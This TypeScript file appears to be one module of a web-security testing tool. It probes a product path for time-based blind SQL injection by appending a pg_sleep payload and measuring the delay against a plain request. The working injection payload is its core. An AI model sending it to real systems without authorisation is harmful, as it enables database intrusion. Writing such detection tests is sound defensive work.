import { defineAttack } from '../../attack/attack.ts'
import type { Attack } from '../../attack/attack.ts'

/** Makes the database sleep through the path of a product. */
export const sqlPathTime: Attack = defineAttack({
  id: 'sql-path-time',
  class: 'sql-injection',
  title: 'Makes the database sleep through the path of a product',
  cwe: 89,
  capec: 7,
  technique: 'T1190',
  preconditions: [],

  steps: async ({ visitor }) => {
    const plain = await visitor.get('/product/1')
    const slow = await visitor.get(`/product/${encodeURIComponent('1 AND 1=(SELECT 1 FROM pg_sleep(1.2))')}`)
    return slow.ms - plain.ms
  },
  oracle: (extraMs) => extraMs > 1000,
  twin: ({ visitor }) => visitor.get('/product/12'),
})
